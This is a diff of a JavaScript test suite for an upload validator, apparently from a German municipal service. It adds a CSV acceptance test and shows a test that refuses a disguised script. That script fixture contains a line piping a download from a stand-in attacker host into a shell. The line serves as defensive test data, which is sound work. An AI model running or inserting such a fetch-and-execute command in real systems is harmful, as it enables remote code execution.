@@ -53,6 +53,17 @@ describe('checkUploads', () => {
     expect(checked).toEqual({ ok: true, files: [{ field: 'nachweis', name: 'nachweis.pdf', type: 'application/pdf', data: pdf }] });
   });
 
+  it('takes a CSV as text where a form asks for one, and refuses a binary named .csv', async () => {
+    const csv = { types: ['text/csv'], maxBytes: 1024 * 1024, maxFiles: 1 };
+    const text = Buffer.from('\uFEFFDatum;Bezirk;Abfallart\r\n08.01.2027;Bezirk 1 – Kernstadt Nord;Restmüll\r\n', 'utf8');
+    const ok = await checkUploads({ datei: csv }, [received('datei', 'abfuhr.csv', text)]);
+    expect(ok).toEqual({ ok: true, files: [{ field: 'datei', name: 'abfuhr.csv', type: 'text/csv', data: text }] });
+    const binary = await checkUploads({ datei: csv }, [received('datei', 'abfuhr.csv', Buffer.from([0x44, 0x61, 0x00, 0x01, 0x02]))]);
+    expect(binary).toEqual({ ok: false, status: 415, errors: { datei: 'Die Datei „abfuhr.csv“ hat ein nicht erlaubtes Format. Erlaubt sind CSV.' } });
+    // A form that takes no CSV does not take text either.
+    expect(await checkUploads({ datei: LIMITS }, [received('datei', 'abfuhr.csv', text)])).toMatchObject({ ok: false, status: 415 });
+  });
+
   it('reads the type from the content: a script named .jpg is refused with 415', async () => {
     const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
     expect(await checkUploads({ fotos: LIMITS }, [received('fotos', 'foto.jpg', script)])).toEqual({
